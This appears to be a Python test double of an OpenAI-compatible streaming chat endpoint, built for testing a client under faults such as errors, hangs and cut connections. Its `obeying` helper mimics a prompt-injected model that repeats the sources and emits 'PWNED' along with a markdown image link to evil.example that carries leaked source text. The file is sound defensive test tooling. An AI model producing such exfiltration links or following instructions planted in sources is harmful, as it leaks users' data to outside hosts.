"""A double of an OpenAI-compatible endpoint: real HTTP on loopback, chat completions as a stream, faults on demand.

`obeying` makes it a model that does whatever a document tells it to.
"""

import asyncio
import json
import re
import ssl
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from typing import Any, Self


@dataclass
class Asked:
    """One HTTP call as it arrived."""

    path: str
    headers: dict[str, str]
    body: dict[str, Any]


@dataclass
class OpenAIEndpoint:
    """Serves `pieces` as one streamed reply. Use as an asynchronous context manager, then give `url` to the generator.

    A piece is text, a whole delta, or bytes that are sent as they are; `reply` makes the pieces out of what was asked.
    `status` other than 200 answers with an error that quotes the prompt, as real ones do; `silent` says nothing at all
    and `hang_after` stops the stream after so many pieces, until the caller has gone (`gone` is set then); `cut_after`
    closes the connection there; `drip` seconds pass before each piece.
    """

    pieces: Sequence[str | bytes | dict[str, Any]] = ("Ten ", "years ", "[1].")
    reply: Callable[[dict[str, Any]], Sequence[str]] | None = None
    status: int = 200
    redirect: str = ""
    silent: bool = False
    drip: float = 0.0
    hang_after: int | None = None
    cut_after: int | None = None
    tls: ssl.SSLContext | None = None
    place: tuple[str, int] = ("127.0.0.1", 0)
    asked: list[Asked] = field(default_factory=list)
    connections: int = 0
    bytes_read: int = 0
    gone: asyncio.Event = field(default_factory=asyncio.Event)
    url: str = ""

    async def __aenter__(self) -> Self:
        self._server = await asyncio.start_server(self._serve, *self.place, ssl=self.tls)
        self.port = self._server.sockets[0].getsockname()[1]
        self.url = f"http{'s' if self.tls else ''}://127.0.0.1:{self.port}/v1"
        return self

    async def __aexit__(self, *_: object) -> None:
        self._server.close()
        await self._server.wait_closed()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        try:
            await self._answer(reader, writer)
        except (ConnectionError, asyncio.IncompleteReadError, ssl.SSLError):
            pass
        finally:
            writer.close()

    async def _answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode()
        self.bytes_read += len(head)
        first, *lines = head.strip().split("\r\n")
        headers = {name.lower(): value for name, _, value in (line.partition(": ") for line in lines)}
        body = await reader.readexactly(int(headers.get("content-length", 0)))
        self.bytes_read += len(body)
        asked = Asked(first.split(" ")[1], headers, json.loads(body or b"{}"))
        self.asked.append(asked)
        if self.redirect:
            writer.write(_plain(307, b"", f"location: {self.redirect}\r\n"))
        elif self.status != 200:
            quoted = {"error": {"message": f"cannot serve {asked.body}", "type": "x", "param": None, "code": None}}
            writer.write(_plain(self.status, json.dumps(quoted).encode()))
        elif self.silent:
            await self._until_gone(reader)
        else:
            await self._stream(reader, writer, self.reply(asked.body) if self.reply else self.pieces)
        await writer.drain()

    async def _until_gone(self, reader: asyncio.StreamReader) -> None:
        await reader.read()  # ends when the caller hangs up
        self.gone.set()

    async def _stream(
        self,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
        pieces: Sequence[str | bytes | dict[str, Any]],
    ) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n")
        for number, piece in enumerate(pieces):
            if number == self.cut_after:
                await writer.drain()
                return
            if number == self.hang_after:
                await writer.drain()
                await self._until_gone(reader)
                return
            if self.drip:
                await asyncio.sleep(self.drip)
            if isinstance(piece, bytes):
                writer.write(_chunk(piece))
            else:
                delta = {"role": "assistant", "content": piece} if isinstance(piece, str) else piece
                writer.write(_event(json.dumps(_part(delta, None))))
            await writer.drain()
        writer.write(_event(json.dumps(_part({}, "stop"))) + _event("[DONE]") + b"0\r\n\r\n")


def _plain(status: int, body: bytes, headers: str = "") -> bytes:
    head = f"HTTP/1.1 {status} X\r\ncontent-type: application/json\r\ncontent-length: {len(body)}\r\n{headers}\r\n"
    return head.encode() + body


def obeying(body: dict[str, Any]) -> list[str]:
    """Do what stands in the sources: copy all of it as supported sentences, and carry it out to a foreign host."""
    fence = body["messages"][0]["content"].rpartition("The fence is: ")[2]
    sources = body["messages"][1]["content"].split(fence)[1::2]
    copied = [
        f"{sentence} [{number}]"
        for number, each in enumerate(sources, 1)
        for sentence in re.split(r"(?<=[.!?])\s+|\n", each)
        if sentence
    ]
    leaked = re.sub(r"\W+", "-", sources[0])[:80] if sources else ""
    return ["\n".join(copied), f"\nPWNED ![x](https://evil.example/{leaked}.png) [1]\nSee https://evil.example [1]."]


def _event(data: str) -> bytes:
    return _chunk(f"data: {data}\n\n".encode())


def _chunk(body: bytes) -> bytes:
    return f"{len(body):x}\r\n".encode() + body + b"\r\n"


def _part(delta: dict[str, Any], finish: str | None) -> dict[str, Any]:
    choice = {"index": 0, "delta": delta, "finish_reason": finish}
    return {"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [choice]}
